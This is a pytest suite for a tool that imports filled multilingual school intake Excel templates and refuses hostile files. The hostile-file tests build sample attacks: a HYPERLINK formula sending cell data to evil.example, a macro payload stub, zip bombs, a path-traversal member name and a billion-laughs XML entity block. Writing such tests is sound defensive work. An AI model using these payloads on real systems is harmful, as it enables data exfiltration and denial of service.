"""``intake import``: filled templates come back as the same intake; hostile files are refused."""

from __future__ import annotations

import datetime as dt
import io
import stat
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from seiteneinsteiger.cli.main import app
from seiteneinsteiger.errors import FormError, SeiteneinsteigerError
from seiteneinsteiger.forms.check import load_form
from seiteneinsteiger.forms.engine import answers_from_intake
from seiteneinsteiger.forms.excel_import import Limits, import_workbook
from seiteneinsteiger.forms.model import pick
from seiteneinsteiger.forms.names import country_in, country_label, language_label
from seiteneinsteiger.forms.values import bilingual, show
from seiteneinsteiger.intake_io import load_intake_file

EXAMPLES = sorted((Path(__file__).resolve().parents[2] / "examples" / "intakes").glob("*.yaml"))
TODAY = dt.date(2026, 1, 15)


def typed_like_a_person(language: str) -> Any:
    """What someone types: German labels in the German form, the family's language in Arabic,
    the dropdown text ("Deutsch / Українська") in Ukrainian; dates as dates, text or ISO."""
    form = load_form()

    def value(name: str, answer: Any) -> Any:
        question = form.by_name[name]
        if question.type == "select_one":
            choice = next(c for c in form.choices(question, offered=False) if c.code == answer)
            if language == "ar":
                return pick(choice.label, "ar")
            return (
                bilingual(choice.label, language) if language == "uk" else pick(choice.label, "de")
            )
        if question.type == "boolean":
            return show(form, question, answer, language)
        if question.type == "country":
            return {
                "de": country_in(answer, "de"),
                "ar": country_label(answer, "ar"),
                "uk": answer,
            }[language]
        if question.type == "language":
            return language_label(answer) if language != "uk" else answer
        if question.type == "date":
            return {"de": answer, "ar": answer.strftime("%d.%m.%Y"), "uk": answer.isoformat()}[
                language
            ]
        if question.type == "integer" and language == "ar":
            return str(answer)
        return answer

    return value


@pytest.mark.parametrize("language", ["de", "ar", "uk"])
@pytest.mark.parametrize("example", EXAMPLES, ids=[p.stem for p in EXAMPLES])
def test_filled_template_reads_back_to_the_same_intake(
    kit: Any, tmp_path: Path, example: Path, language: str
) -> None:
    form = load_form()
    original = kit.example_intake(example)
    answers = answers_from_intake(form, original)
    target = tmp_path / f"{example.stem}-{language}.xlsx"
    kit.fill(
        language,
        answers,
        target,
        cell_value=typed_like_a_person(language),
        ticked={"de": "x", "ar": "نعم", "uk": "Так"}[language],
    )
    result = import_workbook(target, form, today=TODAY)
    assert result.ok, [p.render() for p in result.problems]
    assert result.intake is not None
    assert result.language == language
    assert kit.comparable(result.intake) == kit.comparable(original)


def test_cli_writes_private_yaml_files_with_real_dates(
    runner: CliRunner, kit: Any, tmp_path: Path
) -> None:
    form = load_form()
    original = kit.example_intake(EXAMPLES[0].parent / "amal-haddad.yaml")
    filled = tmp_path / "amal.xlsx"
    kit.fill("ar", answers_from_intake(form, original), filled)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    result = runner.invoke(app, ["intake", "import", str(filled), "-o", str(out_dir)])
    assert result.exit_code == 0, result.output
    written = out_dir / "amal.yaml"
    assert f"{filled} -> {written}" in result.stdout
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    text = written.read_text(encoding="utf-8")
    assert "birth_date: 2013-02-11\n" in text
    assert 'postcode: "40878"' in text
    loaded = load_intake_file(written)[0]
    assert loaded.ok and loaded.intake is not None
    assert loaded.intake.pupil == original.pupil


def test_problems_name_file_sheet_cell_and_question(kit: Any, tmp_path: Path) -> None:
    form = load_form()
    answers = answers_from_intake(form, kit.example_intake(EXAMPLES[0].parent / "amal-haddad.yaml"))
    answers.update(
        {"school_years": 14, "postcode": "4087", "gender": "vielleicht", "birth_date": "31.02.2013"}
    )
    answers.pop("family_name")
    target = tmp_path / "fehler.xlsx"
    codes = kit.fill("de", answers, target)
    rows = {name: row for _sheet, row, _n, name, choice in codes.rows if not choice}
    result = import_workbook(target, form, today=TODAY, display="fehler.xlsx")
    assert result.intake is None
    found = {p.render() for p in result.problems}
    assert found == {
        f"fehler.xlsx Formular!C{rows['family_name']}: Familienname des Kindes: Pflichtfrage "
        "ist nicht beantwortet",
        f"fehler.xlsx Formular!C{rows['gender']}: Geschlecht des Kindes: Bitte wählen Sie eine "
        "Antwort aus der Liste.",
        f"fehler.xlsx Formular!C{rows['school_years']}: Wie viele Jahre ist Ihr Kind insgesamt "
        "zur Schule gegangen?: Bitte geben Sie eine Zahl von 0 bis 13 ein.",
        f"fehler.xlsx Formular!C{rows['postcode']}: Postleitzahl: Bitte geben Sie die "
        "Postleitzahl mit 5 Ziffern ein, zum Beispiel 40878.",
        f"fehler.xlsx Formular!C{rows['birth_date']}: Geburtsdatum des Kindes: Bitte geben Sie "
        "ein Datum ein: Tag.Monat.Jahr, zum Beispiel 11.02.2013.",
    }
    assert len(result.problems) == len(found)


def test_formula_in_an_answer_cell_is_reported(kit: Any, tmp_path: Path) -> None:
    form = load_form()
    answers = answers_from_intake(form, kit.example_intake(EXAMPLES[0].parent / "amal-haddad.yaml"))
    answers["street"] = '=HYPERLINK("http://evil.example/?"&C20,"Klick")'
    target = tmp_path / "formel.xlsx"
    codes = kit.fill("de", answers, target)
    row = next(r for _s, r, _n, name, _c in codes.rows if name == "street")
    result = import_workbook(target, form, today=TODAY, display="formel.xlsx")
    assert result.intake is None
    assert [p.render() for p in result.problems] == [
        f"formel.xlsx Formular!C{row}: Straße und Hausnummer: Formel statt Antwort; bitte den "
        "Wert selbst eintragen"
    ]


def test_answer_to_a_hidden_question_is_a_warning(kit: Any, tmp_path: Path) -> None:
    form = load_form()
    answers = answers_from_intake(
        form, kit.example_intake(EXAMPLES[0].parent / "zahra-ahmadi.yaml")
    )
    answers["last_grade"] = 5  # school_type none: the form does not ask for a grade
    target = tmp_path / "versteckt.xlsx"
    kit.fill("de", answers, target)
    result = import_workbook(target, form, today=TODAY)
    assert result.ok
    assert [p.message for p in result.problems] == [
        "wird nicht übernommen: die Frage passt nicht zu den anderen Antworten"
    ]
    assert result.intake is not None and result.intake.schooling.last_grade is None


# ---------------------------------------------------------------------------------------------
# Hostile and foreign files


@pytest.fixture
def filled(kit: Any, tmp_path: Path) -> Path:
    form = load_form()
    answers = answers_from_intake(form, kit.example_intake(EXAMPLES[0].parent / "amal-haddad.yaml"))
    target = tmp_path / "gut.xlsx"
    kit.fill("de", answers, target)
    return target


def rewrite(
    source: Path,
    target: Path,
    change: dict[str, bytes | None],
    extra: dict[str, bytes] | None = None,
) -> Path:
    """Copy a workbook, replacing (or dropping, with None) members and adding others."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename in change:
                data = change[info.filename]
                if data is not None:
                    new.writestr(info.filename, data)
            else:
                new.writestr(info, old.read(info.filename))
        for name, data in (extra or {}).items():
            new.writestr(name, data)
    return target


def refused(path: Path, *, limits: Limits | None = None) -> str:
    with pytest.raises(SeiteneinsteigerError) as caught:
        import_workbook(
            path, load_form(), today=TODAY, display=path.name, limits=limits or Limits()
        )
    return caught.value.message


def test_a_good_file_is_read(filled: Path) -> None:
    assert import_workbook(filled, load_form(), today=TODAY).ok


def test_workbook_that_is_not_our_template(tmp_path: Path) -> None:
    workbook = Workbook()
    assert workbook.active is not None
    workbook.active["A1"] = "Name"
    workbook.save(tmp_path / "fremd.xlsx")
    assert refused(tmp_path / "fremd.xlsx") == (
        "fremd.xlsx: keine Formularvorlage von seiteneinsteiger (die versteckten Codes fehlen)"
    )


def test_template_with_changed_hidden_codes(filled: Path, tmp_path: Path) -> None:
    workbook = load_workbook(filled)
    workbook["_codes"]["D20"] = "family_name"  # an answer would land in the wrong field
    workbook.save(tmp_path / "codes.xlsx")
    assert "die versteckten Codes der Vorlage wurden verändert" in refused(tmp_path / "codes.xlsx")


def test_template_with_inserted_rows(filled: Path, tmp_path: Path) -> None:
    workbook = load_workbook(filled)
    workbook["Formular"].insert_rows(12)
    workbook.save(tmp_path / "zeilen.xlsx")
    message = refused(tmp_path / "zeilen.xlsx")
    assert "Wurden Zeilen eingefügt, gelöscht oder verschoben?" in message


def test_template_of_another_form_version(kit: Any, tmp_path: Path) -> None:
    form_file = tmp_path / "alt.yaml"
    bundled = Path(load_form().source)
    form_file.write_text(
        bundled.read_text("utf-8").replace(
            f'version: "{load_form().version}"', 'version: "2024-01-01.1"'
        ),
        "utf-8",
    )
    old_form = load_form(form_file)
    from seiteneinsteiger.forms.template import write_template

    with (tmp_path / "alt.xlsx").open("wb") as handle:
        write_template(old_form, "de", handle, key=kit.key)
    assert refused(tmp_path / "alt.xlsx") == (
        f"alt.xlsx: Vorlage der Formularversion 2024-01-01.1; aktuell ist {load_form().version}"
    )


def test_macro_enabled_files(filled: Path, tmp_path: Path) -> None:
    xlsm = tmp_path / "makro.xlsm"
    xlsm.write_bytes(filled.read_bytes())
    assert "Datei mit Makros (.xlsm)" in refused(xlsm)
    vba = rewrite(filled, tmp_path / "vba.xlsx", {}, {"xl/vbaProject.bin": b"\x00" * 64})
    assert "Makros (vbaProject.bin)" in refused(vba)
    with zipfile.ZipFile(filled) as archive:
        types = archive.read("[Content_Types].xml").replace(
            b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml"
        )
    typed = rewrite(filled, tmp_path / "typ.xlsx", {"[Content_Types].xml": types})
    assert "als Arbeitsmappe mit Makros gekennzeichnet" in refused(typed)


@pytest.mark.parametrize("name", ["passwort.xlsx", "alt.xls"])
def test_encrypted_or_legacy_files(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096)
    assert refused(path) == (
        f"{name}: Datei ist mit einem Kennwort verschlüsselt oder im alten .xls-Format"
    )


def test_not_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "text.xlsx"
    path.write_text("Name;Geburtsdatum\n", encoding="utf-8")
    assert refused(path) == "text.xlsx: keine Excel-Datei (.xlsx)"


def test_oversized_file_is_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "riesig.xlsx"
    with path.open("wb") as handle:
        handle.truncate(11 * 1024 * 1024)  # sparse: no disk space, no content
    assert refused(path) == (
        "riesig.xlsx: Datei ist zu groß (11 MB; ein ausgefülltes Formular darf höchstens 10 MB "
        "groß sein)"
    )


def test_zip_bomb_by_ratio(filled: Path, tmp_path: Path) -> None:
    bomb = rewrite(filled, tmp_path / "bombe.xlsx", {}, {"xl/media/image1.bin": b"\0" * (60 << 20)})
    assert bomb.stat().st_size < 1 << 20
    assert "ungewöhnlich stark komprimiert" in refused(bomb)


def test_zip_bomb_by_total_size(filled: Path, tmp_path: Path) -> None:
    padded = rewrite(filled, tmp_path / "viel.xlsx", {}, {"xl/media/a.bin": b"\0" * (2 << 20)})
    limits = Limits(max_uncompressed=1 << 20, max_ratio=10_000)
    assert "Datei ist entpackt zu groß" in refused(padded, limits=limits)


def test_unsafe_member_names(filled: Path, tmp_path: Path) -> None:
    path = rewrite(filled, tmp_path / "pfad.xlsx", {}, {"../../etc/evil": b"x"})
    assert "unzulässiger Pfad im Archiv" in refused(path)


def _sheet_xml(path: Path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_sheet_whose_dimension_hides_rows_is_an_error_not_a_cut(
    filled: Path, tmp_path: Path
) -> None:
    workbook = load_workbook(filled)
    sheet = workbook["Formular"]
    for row in range(200, 1300):
        sheet.cell(row=row, column=1, value="x")
    workbook.save(tmp_path / "lang.xlsx")
    xml = _sheet_xml(tmp_path / "lang.xlsx")
    start = xml.index(b"<dimension ref=")
    end = xml.index(b"/>", start) + 2
    lying = rewrite(
        tmp_path / "lang.xlsx",
        tmp_path / "luege.xlsx",
        {"xl/worksheets/sheet1.xml": xml[:start] + b'<dimension ref="A1:E3"/>' + xml[end:]},
    )
    message = refused(lying)
    assert "hat Einträge in mehr als 1000 Zeilen (Zeile 1001)" in message


def test_dimension_claiming_a_million_rows_is_harmless(filled: Path, tmp_path: Path) -> None:
    xml = _sheet_xml(filled)
    start = xml.index(b"<dimension ref=")
    end = xml.index(b"/>", start) + 2
    huge = rewrite(
        filled,
        tmp_path / "weit.xlsx",
        {"xl/worksheets/sheet1.xml": xml[:start] + b'<dimension ref="A1:XFD1048576"/>' + xml[end:]},
    )
    assert import_workbook(huge, load_form(), today=TODAY).ok


BILLION_LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n'
)


@pytest.mark.parametrize(
    "member",
    [
        "xl/worksheets/sheet1.xml",
        "xl/workbook.xml",
        "xl/styles.xml",
        "xl/worksheets/sheet2.xml",
        "xl/worksheets/sheet4.xml",
    ],
)
def test_xml_entity_attacks(filled: Path, tmp_path: Path, member: str) -> None:
    with zipfile.ZipFile(filled) as archive:
        xml = archive.read(member)
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    attacked = rewrite(filled, tmp_path / "xml.xlsx", {member: BILLION_LAUGHS + body})
    assert "unzulässige XML-Anweisungen (DTD oder Entities" in refused(attacked)


def test_reader_refuses_to_work_without_defusedxml(
    filled: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    assert "Sicherheitsprüfung" in refused(filled)


def test_cli_refuses_bad_files_and_reads_the_good_ones(
    runner: CliRunner, filled: Path, tmp_path: Path
) -> None:
    bad = tmp_path / "alt.xls"
    bad.write_bytes(b"\xd0\xcf\x11\xe0" + b"\x00" * 100)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    result = runner.invoke(app, ["intake", "import", str(bad), str(filled), "-o", str(out_dir)])
    assert result.exit_code == 1
    assert f"{bad}: Datei ist mit einem Kennwort verschlüsselt" in result.stderr
    assert "Traceback" not in result.output
    assert (out_dir / "gut.yaml").exists()
    assert "2 Formulare gelesen: 1 übernommen, 1 nicht übernommen." in result.stdout


def test_cli_json(runner: CliRunner, filled: Path, tmp_path: Path) -> None:
    result = runner.invoke(
        app, ["intake", "import", str(filled), "-o", str(tmp_path), "--format", "json"]
    )
    assert result.exit_code == 0
    data = yaml.safe_load(result.stdout)
    assert data["imported"] == 1 and data["failed"] == 0


# ---------------------------------------------------------------------------------------------

_TEMPLATE = io.BytesIO()
_cell_values = st.one_of(
    st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=30),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.dates(min_value=dt.date(1900, 3, 1)),
    st.datetimes(min_value=dt.datetime(1900, 3, 1)),
    st.sampled_from(["=1+1", "=SUM(A1:A3)", "#REF!", "x", "ja", "نعم", "31.02.2013", "-"]),
)


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    changes=st.lists(
        st.tuples(st.integers(min_value=0, max_value=200), _cell_values), min_size=1, max_size=6
    )
)
def test_import_never_raises_anything_but_our_errors(
    kit: Any, tmp_path: Path, changes: list[tuple[int, Any]]
) -> None:
    form = load_form()
    data, codes = kit.template_bytes("ar")
    workbook = load_workbook(io.BytesIO(data))
    for index, value in changes:
        sheet_name, row, *_ = codes.rows[index % len(codes.rows)]
        workbook[sheet_name][f"{codes.answer_columns[sheet_name]}{row}"] = value
    target = tmp_path / "zufall.xlsx"
    workbook.save(target)
    try:
        result = import_workbook(target, form, today=TODAY)
    except FormError as exc:
        assert exc.message
    else:
        assert result.ok or any(p.is_error for p in result.problems)
        for problem in result.problems:
            assert problem.cell is None or problem.cell.startswith(("Formular!", "Beratung!"))
